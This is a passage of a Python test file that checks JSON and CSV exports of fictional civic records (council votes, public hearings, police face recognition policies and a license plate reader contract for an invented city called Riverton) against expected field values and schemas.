    assert (hold["roll_call_partial"], hold["motion_kind"], hold["recommends"]) == (True, "procedural", None)
    recommend = twin(data_1_1, "votes/2025-06-24-committee-vote-license-plate-readers.json")
    assert (recommend["motion_kind"], recommend["recommends"]) == ("recommendation", "approve-with-conditions")
    hearing = twin(data_1_1, "meetings/2025-05-20-public-hearing-face-recognition.json")
    assert hearing["public_comment"]["speakers"] == {"at_least": 180, "at_most": None, "about": None}
    assert hearing["public_comment"]["written"] == {"at_least": None, "at_most": None, "about": 40}
    assert hearing["agenda"][0]["time"] == "18:40"
    assert twin(data_1_1, "sops/2025-05-01-rpd-face-recognition-policy-v1.json")["text"] == "summary"
    assert twin(data_1_1, "sops/2025-07-01-rpd-face-recognition-policy-v2.json")["text"] == "full"
    contract = twin(data_1_1, "documents/2025-09-02-rpd-license-plate-reader-contract.json")
    assert contract["kind"] == "contract" and contract["vendor"] == "Example Plates LLC (fictional)"
    assert contract["amount"] == {"value": 11660000, "currency": "USD"}
    assert contract["term"] == {"start": "2025-10-01", "end": "2030-09"}
    assert (contract["signed"], contract["signed_by"]) == ("2025-09-02", ["eli-foster"])
    assert contract["meets"] == ["privacy-board-review"]


def test_twins_carry_the_confidence_the_sources_give(data_1_1: dict[str, str]) -> None:
    """Left out, confidence follows the sources; the twin holds the value the pages show."""
    assert twin(data_1_1, "documents/2025-10-07-rpd-lawsuit.json")["confidence"] == "reported"  # press only
    assert twin(data_1_1, "documents/2025-09-02-rpd-license-plate-reader-contract.json")["confidence"] == "confirmed"
    assert twin(data_1_1, "documents/2024-riverton-surveillance-inventory.json")["confidence"] == "disputed"  # written
    row = next(r for r in rows(data_1_1, kind_csv("documents")) if r["id"] == "2025-10-07-rpd-lawsuit")
    assert row["confidence"] == "reported"


def test_1_1_twins_are_lossless_and_valid(site_1_1: Site, data_1_1: dict[str, str]) -> None:
    combined = validator(record_schemas())
    for record in site_1_1.corpus.records.values():
        record_data = json.loads(data_1_1[json_twin(record)])["record"]
        assert MODELS[record.kind].model_validate(record_data) == record, record.id
        for own in editor_validators(kind_schema(record.kind)):
            assert not [e.message for e in own.iter_errors(record_data)], record.id
        assert combined.is_valid(record_data), record.id


def _row(data: dict[str, str], folder: str, record_id: str) -> dict[str, str]:
    return next(r for r in rows(data, kind_csv(folder)) if r["id"] == record_id)


def test_csvs_carry_the_1_1_fields(data_1_1: dict[str, str]) -> None:
    hold = _row(data_1_1, "votes", "2025-05-20-committee-vote-to-hold")
    assert (hold["motion_kind"], hold["recommends"], hold["roll_call_partial"]) == ("procedural", "", "true")
    assert (hold["named_roll_call"], hold["yes"], hold["no"]) == ("true", "2", "0")  # the whole tally
    recommend = _row(data_1_1, "votes", "2025-06-24-committee-vote-license-plate-readers")
    assert (recommend["motion_kind"], recommend["recommends"]) == ("recommendation", "approve-with-conditions")
    assert _row(data_1_1, "votes", "2025-06-10-council-vote-face-recognition-policy")["motion_kind"] == "substantive"
    hearing = _row(data_1_1, "meetings", "2025-05-20-public-hearing-face-recognition")
    assert (hearing["public_comment_speakers"], hearing["public_comment_written"]) == ("at least 180", "about 40")
    contract = _row(data_1_1, "documents", "2025-09-02-rpd-license-plate-reader-contract")
    assert {name: contract[name] for name in COLUMNS_1_1[kind_csv("documents")]} == {
        "meets": "privacy-board-review",
        "vendor": "Example Plates LLC (fictional)",
        "amount": "11660000",
        "currency": "USD",
        "term_start": "2025-10-01",
        "term_end": "2030-09",
        "signed": "2025-09-02",
        "signed_by": "eli-foster",
    }
    audit = _row(data_1_1, "documents", "2025-10-05-rpd-audit")
    assert (audit["kind"], audit["vendor"], audit["amount"], audit["signed_by"]) == ("audit", "", "", "")
    assert _row(data_1_1, "sops", "2025-05-01-rpd-face-recognition-policy-v1")["text"] == "summary"
    plates = _row(data_1_1, "technologies", "rpd-license-plate-readers")
    assert (plates["current_status"], plates["related"]) == ("renewed", "rpd-face-recognition")
    assert (plates["sources"], plates["source_kinds"]) == ("https://example.org/riverton/rpd/alpr", "primary")
    assert _row(data_1_1, "bodies", "riverton-common-council")["sources"] == "https://example.org/riverton/charter"
    assert _row(data_1_1, "bodies", "riverton-police-department")["sources"] == ""
    zoe = _row(data_1_1, "people", "zoe-ruiz")
    assert zoe["roles"].split(";") == [
        "riverton-common-council|Council Member, District 1|1|2022-04-19||2025-06-10|Re-elected in 2024."
        "|2025-06-10-council-vote-face-recognition-policy",
        "public-safety-committee|Chair||2024-04-16||||https://example.org/riverton/committees",
    ]
    assert zoe["source_kinds"] == "primary"


def test_roll_call_and_timeline_rows_carry_the_1_1_fields(data_1_1: dict[str, str]) -> None:
    named = [r for r in rows(data_1_1, ROLL_CALL_CSV) if r["vote_id"] == "2025-05-20-committee-vote-to-hold"]
    assert [(r["person_id"], r["option"], r["motion_kind"]) for r in named] == [("zoe-ruiz", "yes", "procedural")]
    timeline = rows(data_1_1, TIMELINE_CSV)
    lawsuit = next(r for r in timeline if r["record_id"] == "2025-10-07-rpd-lawsuit")
    assert lawsuit["confidence"] == "reported"
    renewed = next(r for r in timeline if r["status"] == "renewed")
    assert (renewed["entry_type"], renewed["confidence"]) == ("status-change", "")
